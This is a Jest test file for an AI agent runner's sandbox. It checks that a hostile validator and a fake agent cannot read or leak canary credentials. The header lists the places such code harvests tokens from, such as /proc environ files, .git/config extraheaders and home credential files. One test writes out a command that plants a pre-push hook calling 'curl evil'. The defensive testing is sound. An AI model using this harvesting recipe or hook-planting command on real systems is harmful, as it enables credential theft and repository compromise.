/**
 * Hostile code in the sandbox, for real, on this machine: a validator and a fake agent that read
 * the environment, every /proc/<pid>/environ, .git/config (and what it includes), $HOME and the
 * real home's credential files, then try `git push` and an authenticated HTTP POST with every
 * token they found. Canaries are planted in every secret; none may be found, sent or pushed.
 * Each isolation mode this machine has is tried; `none` is the control that shows the test can fail.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { spawn, execFileSync, type ChildProcess } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { runValidators } from '../../src/backends/patch/validators.js';
import { createOpencodeBackend } from '../../src/backends/opencode/opencode-backend.js';
import { createModelGateway } from '../../src/models/gateway.js';
import {
  detectIsolation,
  type Isolation,
  type IsolationMode,
} from '../../src/sandbox/isolation.js';
import { SandboxIntegrityError } from '../../src/sandbox/integrity.js';
import { createSandbox } from '../../src/sandbox/sandbox.js';
import { SandboxUnavailable } from '../../src/sandbox/untrusted-policy.js';
import { startOpenAIStub, type OpenAIStub } from '../support/openai-stub.js';

const HOSTILE = join(dirname(fileURLToPath(import.meta.url)), 'hostile-code.mjs');
const C = {
  token: 'ghs_CANARYtokenAAAA1111bbbb2222',
  modelKey: 'sk-CANARYmodelkey-3333cccc4444',
  input: 'CANARYinput5555dddd',
  secret: 'CANARYjobsecret6666eeee',
  gitHeader: 'CANARYgitheader7777ffff',
  gitInclude: 'CANARYinclude8888gggg',
  homeCreds: 'CANARYhomecreds9999hhhh',
  otherProcess: 'CANARYotherproc0000iiii',
};
const CANARIES = Object.values(C);
const b64 = (s: string): string => Buffer.from(`x-access-token:${s}`).toString('base64');
const found = (text: string): string[] =>
  CANARIES.filter((c) => text.includes(c) || text.includes(b64(c)));

const dirs: string[] = [];
const temp = (prefix: string): string => {
  const d = mkdtempSync(join(tmpdir(), prefix));
  dirs.push(d);
  return d;
};
const git = (cwd: string, ...args: string[]): string =>
  execFileSync('git', args, { cwd, env: { ...process.env, GIT_CONFIG_NOSYSTEM: '1' } }).toString();

/** A "GitHub" that records every request (git smart HTTP and API) and refuses them all. */
let server: http.Server;
let remote = '';
const seen: string[] = [];
/** Another process on the runner holding a secret in its environment. */
let holder: ChildProcess;

beforeAll(async () => {
  server = http.createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      seen.push(`${req.method} ${req.url} ${JSON.stringify(req.headers)} ${Buffer.concat(chunks)}`);
      res.writeHead(401, { 'www-authenticate': 'Basic realm="x"' });
      res.end('no');
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  remote = `http://127.0.0.1:${(server.address() as AddressInfo).port}/repo.git`;
  holder = spawn('sleep', ['120'], {
    env: { PATH: process.env.PATH, RUNNER_SECRET: C.otherProcess },
  });
});

afterAll(async () => {
  holder.kill('SIGKILL');
  await new Promise<void>((r) => server.close(() => r()));
  for (const d of dirs) rmSync(d, { recursive: true, force: true });
});

/** A checkout as actions/checkout leaves it: extraheader in .git/config, an includeIf credentials file. */
function checkout(): {
  repo: string;
  home: string;
  runnerTemp: string;
  env: Record<string, string>;
} {
  const repo = temp('aethr-hostile-repo-');
  const home = temp('aethr-hostile-home-');
  const runnerTemp = temp('aethr-hostile-rt-');
  git(repo, 'init', '-q', '-b', 'main');
  writeFileSync(join(repo, 'a.txt'), 'a\n');
  git(repo, 'add', '.');
  git(repo, '-c', 'user.name=t', '-c', 'user.email=t@e', 'commit', '-qm', 'init');
  git(repo, 'remote', 'add', 'origin', remote);
  const base = remote.replace(/repo\.git$/, '');
  git(repo, 'config', `http.${base}.extraheader`, `AUTHORIZATION: basic ${b64(C.gitHeader)}`);
  const credFile = join(runnerTemp, 'git-credentials-1234.config');
  writeFileSync(
    credFile,
    `[http "${base}"]\n\textraheader = AUTHORIZATION: basic ${b64(C.gitInclude)}\n`,
  );
  git(repo, 'config', `includeIf.gitdir:${join(repo, '.git')}/.path`, credFile);
  mkdirSync(join(home, '.config', 'gh'), { recursive: true });
  writeFileSync(join(home, '.git-credentials'), `http://x-access-token:${C.homeCreds}@127.0.0.1\n`);
  writeFileSync(join(home, '.config', 'gh', 'hosts.yml'), `oauth_token: ${C.homeCreds}\n`);
  const env = {
    PATH: process.env.PATH ?? '/usr/bin:/bin',
    HOME: home,
    RUNNER_TEMP: runnerTemp,
    GITHUB_TOKEN: C.token,
    INPUT_GITHUB_TOKEN: C.input,
    ACTIONS_RUNTIME_TOKEN: C.input,
    OPENAI_API_KEY: C.modelKey,
    DEPLOY_PASSWORD: C.secret,
    MY_SERVICE: C.secret,
  };
  return { repo, home, runnerTemp, env };
}

const MODES: IsolationMode[] = ['bwrap', 'unshare', 'sudo'];
const isolations = new Map<IsolationMode, Isolation>();
beforeAll(async () => {
  for (const mode of MODES)
    isolations.set(
      mode,
      await detectIsolation({ modes: [mode as Exclude<IsolationMode, 'none'>] }),
    );
});

it('this machine has at least one real isolation mode (CI installs bubblewrap)', async () => {
  const detected = await detectIsolation();
  console.log(detected.description);
  expect(detected.mode).not.toBe('none');
});

describe.each(MODES)('isolation %s', (mode) => {
  it('a hostile validator finds no canary, and cannot push or call the API with one', async () => {
    const isolation = isolations.get(mode)!;
    if (isolation.mode === 'none') {
      console.log(`skipped ${mode}: ${isolation.tried.map((t) => t.problem).join('; ')}`);
      return;
    }
    const { repo, home, runnerTemp, env } = checkout();
    const configBefore = readFileSync(join(repo, '.git', 'config'));
    const loot = join(temp('aethr-loot-'), 'loot.txt');
    const sandbox = await createSandbox({ baseEnv: env, isolation });
    seen.length = 0;
    try {
      const outcome = await runValidators(
        [{ name: 'hostile', run: ['node', HOSTILE, loot, remote, home, runnerTemp] }],
        { cwd: repo, env, sandbox, untrusted: true },
      );
      expect(outcome.results[0]!.exitCode).toBe(0);
      expect(found(outcome.results[0]!.output)).toEqual([]);
    } finally {
      await sandbox.dispose();
    }
    const text = readFileSync(loot, 'utf8');
    expect(text).toContain('== /proc/'); // it did look
    expect(found(text)).toEqual([]);
    expect(found(seen.join('\n'))).toEqual([]);
    expect(seen.some((s) => s.includes('git-receive-pack'))).toBe(true); // it did try to push
    // The credentials are back, byte for byte.
    expect(readFileSync(join(repo, '.git', 'config'))).toEqual(configBefore);
    expect(readFileSync(join(runnerTemp, 'git-credentials-1234.config'), 'utf8')).toContain(
      b64(C.gitInclude),
    );
  }, 60_000);
});

it('control: without process isolation the same code reads another process environment', async () => {
  const { repo, home, runnerTemp, env } = checkout();
  const loot = join(temp('aethr-loot-'), 'loot.txt');
  const none: Isolation = { mode: 'none', description: 'none', tried: [] };
  await runValidators(
    [{ name: 'hostile', run: ['node', HOSTILE, loot, remote, home, runnerTemp] }],
    {
      cwd: repo,
      env,
      sandbox: await createSandbox({ baseEnv: env, isolation: none }),
    },
  );
  // The environment allow-list and the git guard still hold; only /proc gives the secret away.
  expect(found(readFileSync(loot, 'utf8'))).toContain(C.otherProcess);
}, 60_000);

it('untrusted code and no isolation: nothing runs, and the error says what to enable', async () => {
  const { repo, env } = checkout();
  const marker = join(repo, 'ran');
  const none: Isolation = { mode: 'none', description: 'sandbox: none', tried: [] };
  const error = await runValidators(
    [
      {
        name: 'x',
        run: ['node', '-e', `require('fs').writeFileSync(${JSON.stringify(marker)}, '')`],
      },
    ],
    {
      cwd: repo,
      env,
      untrusted: true,
      sandbox: await createSandbox({ baseEnv: env, isolation: none }),
    },
  ).catch((e: unknown) => e);
  expect(error).toBeInstanceOf(SandboxUnavailable);
  expect((error as SandboxUnavailable).hint).toMatch(/bubblewrap/);
  expect(() => readFileSync(marker)).toThrow();
});

it('a validator that changes .git/config or adds a hook fails the run loudly; credentials still restored', async () => {
  const { repo, env } = checkout();
  const configBefore = readFileSync(join(repo, '.git', 'config'));
  for (const run of [
    ['git', 'config', 'core.hooksPath', '/tmp/evil-hooks'],
    [
      'sh',
      '-c',
      'printf "#!/bin/sh\\ncurl evil\\n" > .git/hooks/pre-push && chmod +x .git/hooks/pre-push',
    ],
  ]) {
    const error = await runValidators([{ name: 'tamper', run }], { cwd: repo, env }).catch(
      (e: unknown) => e,
    );
    expect(error).toBeInstanceOf(SandboxIntegrityError);
    expect((error as SandboxIntegrityError).problems.join(' ')).toMatch(
      /config was changed|hook pre-push was added/,
    );
    rmSync(join(repo, '.git', 'hooks', 'pre-push'), { force: true });
  }
  expect(readFileSync(join(repo, '.git', 'config'))).toEqual(configBefore);
});

describe('a hostile agent (fake opencode) behind the model proxy', () => {
  let llm: OpenAIStub;
  beforeAll(async () => {
    llm = await startOpenAIStub({ reply: () => ({ text: 'model says hi' }) });
  });
  afterAll(() => llm.close());

  it('sees only a dummy key, no canary, cannot push; its model call is made by aethr with the real key', async () => {
    const { repo, home, runnerTemp, env } = checkout();
    const loot = join(temp('aethr-loot-'), 'loot.txt');
    const agentEnv = {
      ...env,
      OPENAI_BASE_URL: llm.url,
      HOSTILE_LOOT: loot,
      HOSTILE_REMOTE: remote,
      HOSTILE_PATHS: `${home}:${runnerTemp}`,
    };
    const gateway = createModelGateway({ env: agentEnv, live: true });
    const backend = createOpencodeBackend({
      root: repo,
      env: agentEnv,
      models: gateway,
      bin: HOSTILE,
      passEnv: ['HOSTILE_LOOT', 'HOSTILE_REMOTE', 'HOSTILE_PATHS'],
      untrusted: true,
      timeoutMs: 60_000,
    });
    seen.length = 0;
    const done = await backend.implement({
      step: { id: 'implement', role: 'builder', backend: 'opencode', context: [] } as never,
      prompt: { system: 's', user: 'u' },
      model: 'openai:gpt-4o-mini',
      iteration: 1,
    });
    const text = readFileSync(loot, 'utf8');
    expect(found(text)).toEqual([]);
    expect(found(seen.join('\n'))).toEqual([]);
    expect(found(done.output)).toEqual([]);
    expect(text).toContain('model says hi'); // the proxy answered the agent
    expect(text).toMatch(/== wrong key status\n401/);
    // The provider saw aethr's request with the real key, for the routed model, not the agent's pick.
    const upstream = llm.chatRequests().at(-1)!;
    expect(upstream.headers.authorization).toBe(`Bearer ${C.modelKey}`);
    expect(upstream.body?.model).toBe('gpt-4o-mini');
    expect(gateway.calls.at(-1)).toMatchObject({
      stepId: 'implement',
      role: 'builder',
      status: 'ok',
    });
  }, 90_000);
});
